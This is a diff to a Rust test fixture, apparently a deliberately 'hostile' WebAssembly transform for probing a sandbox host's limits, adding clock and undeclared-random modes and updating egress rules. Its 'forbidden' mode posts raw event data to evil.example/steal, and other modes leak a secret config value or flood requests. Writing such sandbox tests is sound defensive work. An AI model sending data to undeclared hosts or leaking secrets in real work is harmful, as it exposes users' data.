@@ -13,11 +13,21 @@
 //! | `plain-http`   | asks for `http://` on its declared host                  |
 //! | `endless`      | asks for another request after every response            |
 //! | `leak-secret`  | logs and prints its secret config value                  |
+//! | `clock`        | reads WASI's clocks (the host gives the event's time)    |
+//! | `random`       | asks WASI for random bytes without declaring it: traps   |
 
 use ztbridge_sdk::{
-    ConfigKey, EventInput, Failure, Guest, HttpResponse, Info, Request, Step, config, export, log,
-    send,
+    ConfigKey, EgressRule, EventInput, Failure, Guest, Info, Request, Response, Step, config,
+    export, log, send,
 };
+
+// WASI's secure random, imported directly (this transform does not
+// declare `needs-random`: the host traps the call).
+#[link(wasm_import_module = "wasi:random/random@0.2.6")]
+unsafe extern "C" {
+    #[link_name = "get-random-u64"]
+    fn get_random_u64() -> i64;
+}
 
 struct Hostile;
 
@@ -36,10 +46,14 @@ impl Guest for Hostile {
         };
         Info {
             name: "hostile".into(),
-            version: "0.1.0".into(),
+            version: "0.2.0".into(),
             description: "misbehaves on purpose (tests)".into(),
-            egress: vec!["allowed.example".into(), "config:url".into()],
+            egress: vec![
+                EgressRule::Host("allowed.example".into()),
+                EgressRule::ConfigUrl("url".into()),
+            ],
             config: vec![key("mode", false), key("url", false), key("secret", true)],
+            needs_random: false,
         }
     }
 
@@ -59,6 +73,18 @@ impl Guest for Hostile {
                 }
             }
             "trap" => panic!("hostile transform panicking on purpose"),
+            "clock" => {
+                let wall = std::time::SystemTime::now()
+                    .duration_since(std::time::UNIX_EPOCH)
+                    .map(|d| d.as_millis())
+                    .unwrap_or(0);
+                Ok(Step::Done(format!("wall_ms={wall}")))
+            }
+            "random" => {
+                // SAFETY: a WASI import with no arguments and an i64 result.
+                let n = unsafe { get_random_u64() };
+                Ok(Step::Done(format!("random={n}")))
+            }
             "huge" => {
                 // 10.5 MB in all: seven bodies of 1.5 MB, each over the 1 MiB
                 // body limit, within the request count limit.
@@ -79,7 +105,7 @@ impl Guest for Hostile {
             }
             "forbidden" => Ok(send(vec![
                 Request::post("https://evil.example/steal")
-                    .json(&serde_json::json!({"e": input.body})),
+                    .json(&serde_json::json!({"e": input.raw})),
             ])),
             "plain-http" => Ok(send(vec![
                 Request::post("http://allowed.example/ingest").json(&serde_json::json!({})),
@@ -93,19 +119,22 @@ impl Guest for Hostile {
                 )))
             }
             _ => Ok(send(vec![
-                Request::post(&target()).json(&serde_json::json!({"received": input.body})),
+                Request::post(&target()).json(&serde_json::json!({"received": input.raw})),
             ])),
         }
     }
 
-    fn resume(responses: Vec<HttpResponse>) -> Result<Step, Failure> {
+    fn resume(responses: Vec<Response>) -> Result<Step, Failure> {
         if config::get_or("mode", "ok") == "endless" {
             return Ok(send(vec![
                 Request::post(&target()).json(&serde_json::json!({})),
             ]));
         }
-        let status = responses.first().map(|r| r.status).unwrap_or(0);
-        Ok(Step::Done(format!("hostile ok: HTTP {status}")))
+        match responses.first() {
+            Some(Ok(r)) => Ok(Step::Done(format!("hostile ok: HTTP {}", r.status))),
+            Some(Err(e)) => Err(ztbridge_sdk::failure::transport(e)),
+            None => Ok(Step::Done("hostile ok: no response".into())),
+        }
     }
 }
 
